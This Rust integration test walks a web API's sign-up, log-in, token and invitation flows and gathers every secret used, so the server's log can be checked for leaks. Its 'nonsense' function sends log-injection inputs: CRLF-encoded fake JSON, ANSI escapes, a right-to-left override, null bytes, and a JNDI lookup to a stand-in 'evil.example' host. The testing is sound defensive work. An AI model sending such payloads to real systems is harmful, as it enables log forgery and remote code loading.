//! The main journey, over a real socket to the real program: the set-up, log-ins, a token, calls
//! that are allowed and refused, and nonsense. Returns every secret that was used on the way.

use super::program::Serving;
use crate::http::wire::Wire;
use countermark_testkit::PASSWORD;
use serde_json::{Value, json};

/// Somebody else's password on the way.
const SECOND: &str = "nine calm herons wade far";

/// Whatever of these is found in the log is a leak.
pub(crate) struct Secrets(pub(crate) Vec<String>);

fn text(value: &Value) -> String {
    value.as_str().expect("a text").to_owned()
}

fn authorization(scheme: &str, token: &str) -> String {
    format!("Authorization: {scheme} {token}\r\n")
}

/// Goes the whole way.
pub(crate) async fn walk(server: &Serving) -> Secrets {
    let code = server.setup_code().await.expect("a link");
    let mut secrets = vec![PASSWORD.to_owned(), SECOND.to_owned()];
    let empty = json!({});
    let setup = json!({"code": code, "company": "Kallista", "email": "a@kallista.example", "password": PASSWORD});
    let (answer, _) = server
        .expect(201, "POST", "/api/v2/setup/", "", &setup)
        .await;
    let line = answer
        .head
        .lines()
        .find(|line| line.starts_with("set-cookie: "))
        .expect("a cookie");
    let cookie = line["set-cookie: ".len()..]
        .split(';')
        .next()
        .expect("a pair")
        .to_owned();
    secrets.push(cookie.split_once('.').expect("id and secret").1.to_owned());
    let portal = format!("Cookie: {cookie}\r\nSec-Fetch-Site: same-origin\r\n");
    server
        .expect(200, "GET", "/api/v2/me/", &portal, &empty)
        .await;

    let log_in = json!({"email": "a@kallista.example", "password": PASSWORD});
    let (_, jwt) = server
        .expect(200, "POST", "/api/v2/auth/jwt/", "", &log_in)
        .await;
    let jwt = text(&jwt["token"]);
    let person = authorization("JWT", &jwt);
    let (_, list) = server
        .expect(200, "GET", "/api/v2/permissions/", &person, &empty)
        .await;
    let new =
        json!({"name": "x", "valid_until": list["policy"]["today"], "permissions": ["brand_view"]});
    let (_, uat) = server
        .expect(201, "POST", "/api/v2/uats/", &person, &new)
        .await;
    let uat = text(&uat["token"]);
    let token = authorization("UAT", &uat);
    server
        .expect(
            200,
            "GET",
            "/api/v2/brands/?search=geheime-suche",
            &token,
            &empty,
        )
        .await;
    server
        .expect(
            403,
            "POST",
            "/api/v2/brands/",
            &token,
            &json!({"name": "A"}),
        )
        .await;
    server
        .expect(403, "GET", "/api/v2/users/", &token, &empty)
        .await;

    let invited = json!({"email": "b@kallista.example", "role": "scm_user"});
    let (_, invited) = server
        .expect(201, "POST", "/api/v2/users/", &person, &invited)
        .await;
    let link = text(&invited["invitation"]["url"]);
    let invitation = link.rsplit_once('/').expect("a code").1.to_owned();
    let body = json!({"code": invitation});
    server
        .expect(200, "POST", "/api/v2/invitations/look/", "", &body)
        .await;
    let body = json!({"code": invitation, "password": SECOND});
    server
        .expect(201, "POST", "/api/v2/invitations/accept/", "", &body)
        .await;

    let wrong = json!({"email": "a@kallista.example", "password": "geheimes falsches wort"});
    server
        .expect(400, "POST", "/api/v2/auth/jwt/", "", &wrong)
        .await;
    server
        .expect(
            401,
            "GET",
            "/api/v2/me/",
            &authorization("UAT", &format!("{}x", &uat[..79])),
            &empty,
        )
        .await;
    server
        .expect(
            401,
            "GET",
            "/api/v2/me/",
            &authorization("JWT", &format!("{jwt}x")),
            &empty,
        )
        .await;
    // By mistake in the address, where it should never be.
    for (name, secret) in [("uats", &uat), ("users", &jwt), ("brands", &invitation)] {
        server
            .expect(
                404,
                "GET",
                &format!("/api/v2/{name}/{secret}/"),
                &person,
                &empty,
            )
            .await;
        server
            .expect(
                401,
                "GET",
                &format!("/api/v2/me/?token={secret}"),
                "",
                &empty,
            )
            .await;
    }
    let body = json!({"token": jwt});
    let (_, renewed) = server
        .expect(200, "POST", "/api/v2/auth/jwt/refresh/", "", &body)
        .await;
    secrets.push(
        text(&renewed["token"])
            .rsplit_once('.')
            .expect("a signature")
            .1
            .to_owned(),
    );
    nonsense(server).await;
    let change = json!({"current_password": PASSWORD, "new_password": "two loud geese land early"});
    server
        .expect(204, "PATCH", "/api/v2/me/password/", &person, &change)
        .await;
    server
        .expect(204, "DELETE", "/api/v2/uats/self/", &token, &empty)
        .await;
    server
        .expect(401, "GET", "/api/v2/me/", &token, &empty)
        .await;
    server
        .expect(204, "POST", "/api/v2/auth/jwt/logout-all/", &person, &empty)
        .await;

    secrets.push("two loud geese land early".into());
    secrets.push("geheimes falsches wort".into());
    secrets.push("geheime-suche".into());
    // The end of a token is what makes it one; its beginning is a public id.
    secrets.push(uat[31..].to_owned());
    secrets.push(jwt.rsplit_once('.').expect("a signature").1.to_owned());
    secrets.push(jwt.split('.').nth(1).expect("claims").to_owned());
    secrets.push(invitation);
    secrets.push(code);
    Secrets(secrets)
}

/// What an attacker would like to see in a log: new lines, colours, JSON of their own.
async fn nonsense(server: &Serving) {
    for path in [
        "/%0d%0a%7B%22level%22:%22INFO%22%7D",
        "/a\u{1b}[31mred",
        "/\",\"status\":\"200",
        "/%1b%5b31m",
        "/\u{202e}gnp.exe",
        "/%00",
        "/\\u0000",
        "//evil.example/",
        "/${jndi:ldap://evil.example/a}",
    ] {
        let mut wire = Wire::to(server.address).await;
        wire.send(format!(
            "GET {path} HTTP/1.1\r\nHost: a\r\nConnection: close\r\nUser-Agent: \u{1b}[31m\r\n\r\n"
        ))
        .await;
        wire.rest().await;
    }
    for junk in [
        "\r\n\r\n",
        "GET",
        "{\"level\":\"INFO\"}\n",
        "\u{16}\u{3}\u{1}\0\0",
        "A B C D\r\n\r\n",
    ] {
        let mut wire = Wire::to(server.address).await;
        wire.send(junk).await;
        wire.finish().await;
        wire.rest().await;
    }
}
